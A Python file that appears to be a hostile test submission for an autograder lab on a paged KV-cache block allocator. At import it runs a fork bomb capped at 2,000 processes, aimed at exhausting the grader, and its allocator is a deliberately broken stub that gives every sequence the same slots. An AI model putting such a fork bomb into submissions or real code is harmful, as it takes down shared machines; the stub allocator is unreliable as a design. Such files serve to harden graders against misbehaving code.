"""Forks until nothing more can be forked, so that the grader or the machine gives up first.

A grader without limits starves with the machine, and one that runs the next submission in the same session finds it full of
processes. Here a worker may have some hundred processes, all in its own namespace, and the end of the run ends them all. The
bomb stops at 2,000 by itself.

Seen: every public judge that runs strangers' code meets it; course autograders without process limits go down.
Lab: paged-kv-allocator
Expect: not passed
Needs: namespace
"""

import mmap
import os
import time

MOST = 2_000
born = mmap.mmap(-1, 8)


def bomb():
    while int.from_bytes(born[:8], "little") < MOST:
        born[:8] = (int.from_bytes(born[:8], "little") + 1).to_bytes(8, "little")
        try:
            child = os.fork()
        except OSError:
            return False
        if child == 0:
            bomb()
            time.sleep(120)
            os._exit(0)
    return True


ENOUGH = bomb()


class BlockAllocator:
    """Hands out the same slots to everybody."""

    def __init__(self, num_blocks, block_size):
        self.num_blocks, self.block_size = num_blocks, block_size

    def allocate(self, seq_id, n_tokens):
        return list(range(n_tokens))

    def append(self, seq_id, n_tokens=1):
        return [], list(range(n_tokens))

    def fork(self, parent_id, child_id):
        pass

    def free(self, seq_id):
        pass

    def block_table(self, seq_id):
        return [0]

    def ref_count(self, block):
        return 1

    def num_free(self):
        return self.num_blocks


def wasted_slots(lengths, block_size, reserved):
    return sum(reserved - n for n in lengths), sum(-n % block_size for n in lengths)
